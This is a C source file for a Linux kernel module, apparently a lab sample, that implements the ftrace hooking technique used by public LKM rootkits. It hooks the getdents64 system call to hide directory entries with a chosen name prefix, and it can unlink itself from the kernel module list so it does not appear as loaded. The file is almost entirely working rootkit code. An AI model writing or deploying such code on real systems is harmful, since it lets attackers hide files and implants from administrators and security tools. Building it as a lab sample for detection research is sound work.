// SPDX-License-Identifier: GPL-2.0
/*
 * Lab attack: the ftrace hook public LKM rootkits use. An ftrace_ops with
 * SAVE_REGS|IPMODIFY filters one kernel function (ftrace_set_filter_ip) and
 * its handler rewrites regs->ip, so every call of that function runs this
 * module's replacement, which calls the original and then removes directory
 * entries whose name starts with `prefix` (getdents64's results). hidden=1 also
 * takes the module off the module list, as such rootkits do; writing 0 to
 * /sys/module/iv_ftrace_hook/parameters/hidden puts it back, then rmmod.
 *
 *   insmod iv_ftrace_hook.ko [target=__x64_sys_getdents64] [prefix=iv_hidden] [hidden=1]
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/ftrace.h>
#include <linux/dirent.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include <linux/version.h>
#include "iv_lookup.h"

static char *target = "__x64_sys_getdents64";
module_param(target, charp, 0444);
MODULE_PARM_DESC(target, "the getdents64 entry to hook (a pt_regs syscall wrapper)");
static char *prefix = "iv_hidden";
module_param(prefix, charp, 0444);
MODULE_PARM_DESC(prefix, "directory entries starting with this are hidden");

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn original;
static unsigned long target_ip;
static struct ftrace_ops iv_ops;
static bool registered;

static long iv_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *udir = (void __user *)regs->si;
	struct linux_dirent64 *buf, *d;
	long ret = original(regs), off = 0, plen = strlen(prefix);

	if (ret <= 0 || plen == 0)
		return ret;
	buf = kvmalloc(ret, GFP_KERNEL);
	if (!buf)
		return ret;
	if (copy_from_user(buf, udir, ret))
		goto out;
	while (off < ret) {
		d = (void *)buf + off;
		if (d->d_reclen == 0 || off + d->d_reclen > ret)
			break;
		if (strncmp(d->d_name, prefix, plen) == 0) {
			long len = d->d_reclen;

			memmove(d, (void *)d + len, ret - off - len);
			ret -= len;
			continue;
		}
		off += d->d_reclen;
	}
	if (copy_to_user(udir, buf, ret))
		ret = -EFAULT;
out:
	kvfree(buf);
	return ret;
}

#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
static void notrace iv_thunk(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
#else
static void notrace iv_thunk(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops, struct pt_regs *regs)
{
#endif
	/* Our own call of the original comes from this module: let it through. */
	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)iv_getdents64;
}

/* Off the module list and back, as in iv_hide_module. */
static bool hidden;
static struct list_head *modules_head;
static struct mutex *modules_mutex;

static void iv_set_hidden(bool hide)
{
	if (hide == hidden || !modules_head || !modules_mutex)
		return;
	mutex_lock(modules_mutex);
	if (hide)
		list_del_rcu(&THIS_MODULE->list);
	else
		list_add_rcu(&THIS_MODULE->list, modules_head);
	mutex_unlock(modules_mutex);
	if (hide)
		synchronize_rcu();
	hidden = hide;
}

static int iv_hidden_set(const char *val, const struct kernel_param *kp)
{
	bool v;
	int err = kstrtobool(val, &v);

	if (err)
		return err;
	if (registered)
		iv_set_hidden(v);
	else
		hidden = v; /* at load: applied once the hook is in place */
	return 0;
}

static int iv_hidden_get(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", hidden ? 1 : 0);
}

static const struct kernel_param_ops iv_hidden_ops = { .set = iv_hidden_set, .get = iv_hidden_get };
module_param_cb(hidden, &iv_hidden_ops, NULL, 0644);
MODULE_PARM_DESC(hidden, "1: off the module list; write 0 to put it back before rmmod");

static int __init iv_init(void)
{
	bool hide = hidden;
	int err;

	target_ip = iv_lookup_name(target);
	modules_head = (struct list_head *)iv_lookup_name("modules");
	modules_mutex = (struct mutex *)iv_lookup_name("module_mutex");
	if (!target_ip) {
		pr_err("iv_ftrace_hook: %s not found\n", target);
		return -ENOENT;
	}
	original = (syscall_fn)target_ip;
	iv_ops.func = iv_thunk;
	iv_ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY |
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
		FTRACE_OPS_FL_RECURSION;
#else
		FTRACE_OPS_FL_RECURSION_SAFE;
#endif
	err = ftrace_set_filter_ip(&iv_ops, target_ip, 0, 0);
	if (err) {
		pr_err("iv_ftrace_hook: ftrace_set_filter_ip(%s): %d\n", target, err);
		return err;
	}
	err = register_ftrace_function(&iv_ops);
	if (err) {
		pr_err("iv_ftrace_hook: register_ftrace_function: %d\n", err);
		ftrace_set_filter_ip(&iv_ops, target_ip, 1, 0);
		return err;
	}
	registered = true;
	hidden = false;
	iv_set_hidden(hide);
	pr_info("iv_ftrace_hook: %s hooked, hiding entries named %s*%s\n", target, prefix, hidden ? ", module hidden" : "");
	return 0;
}

static void __exit iv_exit(void)
{
	unregister_ftrace_function(&iv_ops);
	ftrace_set_filter_ip(&iv_ops, target_ip, 1, 0);
	pr_info("iv_ftrace_hook: unhooked\n");
}

module_init(iv_init);
module_exit(iv_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("introvisor lab: ftrace hook on getdents64");
